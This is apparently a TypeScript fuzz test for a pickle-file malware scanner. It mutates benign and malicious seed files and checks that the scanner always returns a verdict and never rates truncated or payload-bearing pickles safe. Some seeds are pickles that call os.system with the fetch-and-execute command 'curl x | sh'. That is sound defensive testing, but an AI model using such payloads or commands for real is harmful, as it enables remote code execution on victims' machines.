import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { pickleCheck } from "../checks/pickle-check.js";
import type { PickleAnalysisAt, ScanCheck } from "../checks/scan-check.js";
import { MemorySource } from "../reader/byte-source.js";
import { scanSource } from "../scan.js";
import { analysePickle } from "./analyse-pickle.js";
import {
  BENIGN_FIXTURES,
  joblibFile,
  numpyArrayP4,
  osSystemP0,
  osSystemP4,
} from "./test-helpers/fixtures.js";

/** Scans and returns the report with the pickle analyses the checks saw. */
async function scanWithAnalyses(bytes: Uint8Array, readChunkBytes?: number) {
  const seen: PickleAnalysisAt[] = [];
  const spy: ScanCheck = {
    id: "pickle",
    run: (input) => {
      seen.push(...input.pickles);
      return {};
    },
  };
  const report = await scanSource(new MemorySource(bytes), "fuzz.bin", {
    checks: [pickleCheck, spy],
    ...(readChunkBytes ? { limits: { readChunkBytes } } : {}),
  });
  return { report, analyses: seen.map((p) => p.analysis) };
}

/** The scanner's promise: it answers, and an analysis cut short is never `safe`. */
async function holdsPromise(bytes: Uint8Array, readChunkBytes?: number): Promise<void> {
  const { report, analyses } = await scanWithAnalyses(bytes, readChunkBytes);
  expect(["safe", "suspicious", "error", "dangerous"]).toContain(report.verdict);
  if (analyses.some((a) => !a.complete)) expect(report.verdict).not.toBe("safe");
  for (const a of analyses) expect(a.end).toBeLessThanOrEqual(bytes.length);
}

const SEEDS: Uint8Array[] = [
  ...Object.values(BENIGN_FIXTURES).map((make) => make()),
  osSystemP0("curl x | sh"),
  osSystemP4("curl x | sh"),
  joblibFile([
    { dtype: "i8", shape: [2] },
    { dtype: "O8", shape: [1], nested: numpyArrayP4() },
  ]),
];

type Mutation =
  | { kind: "flip"; at: number; value: number }
  | { kind: "insert"; at: number; value: number }
  | { kind: "delete"; at: number }
  | { kind: "truncate"; at: number };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant("flip" as const), at: fc.nat(), value: fc.integer({ min: 0, max: 255 }) }),
  fc.record({ kind: fc.constant("insert" as const), at: fc.nat(), value: fc.integer({ min: 0, max: 255 }) }),
  fc.record({ kind: fc.constant("delete" as const), at: fc.nat() }),
  fc.record({ kind: fc.constant("truncate" as const), at: fc.nat() }),
);

function mutate(seed: Uint8Array, mutations: readonly Mutation[]): Uint8Array {
  let bytes = Array.from(seed);
  for (const m of mutations) {
    const at = bytes.length === 0 ? 0 : m.at % (bytes.length + (m.kind === "insert" ? 1 : 0));
    if (m.kind === "flip") bytes[at] = m.value;
    else if (m.kind === "insert") bytes.splice(at, 0, m.value);
    else if (m.kind === "delete") bytes.splice(at, 1);
    else bytes = bytes.slice(0, at);
  }
  return Uint8Array.from(bytes);
}

describe("hostile bytes never break the scanner", () => {
  it("random bytes: always an answer, never `safe` when the analysis was cut short", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 400 }), async (bytes) => holdsPromise(bytes)),
      { numRuns: 400 },
    );
  });

  it("random bytes that start like a pickle", async () => {
    const head = fc.constantFrom(Uint8Array.of(0x80, 2), Uint8Array.of(0x80, 4, 0x95), Uint8Array.of(0x28));
    await fc.assert(
      fc.asyncProperty(head, fc.uint8Array({ maxLength: 300 }), async (h, tail) => {
        const bytes = new Uint8Array(h.length + tail.length);
        bytes.set(h);
        bytes.set(tail, h.length);
        await holdsPromise(bytes);
      }),
      { numRuns: 400 },
    );
  });

  it("mutated real-shaped pickles (flip, insert, delete, truncate)", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...SEEDS),
        fc.array(mutation, { minLength: 1, maxLength: 4 }),
        async (seed, mutations) => holdsPromise(mutate(seed, mutations)),
      ),
      { numRuns: 600 },
    );
  });

  it("a payload stays dangerous whatever is appended or changed after it", async () => {
    const payload = osSystemP4("curl x | sh").subarray(0, -1); // without STOP
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 200 }), async (tail) => {
        const bytes = new Uint8Array(payload.length + tail.length);
        bytes.set(payload);
        bytes.set(tail, payload.length);
        const { report } = await scanWithAnalyses(bytes);
        expect(report.verdict).toBe("dangerous");
      }),
      { numRuns: 300 },
    );
  });

  it("mutated pickles give the same analysis whatever the read window", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...SEEDS),
        fc.array(mutation, { minLength: 1, maxLength: 3 }),
        fc.constantFrom(1, 2, 3, 7, 64),
        async (seed, mutations, chunk) => {
          const bytes = mutate(seed, mutations);
          const small = await analysePickle(new MemorySource(bytes), 0, {
            limits: { readChunkBytes: chunk },
          });
          const whole = await analysePickle(new MemorySource(bytes), 0);
          expect(small).toEqual(whole);
        },
      ),
      { numRuns: 300 },
    );
  });
});
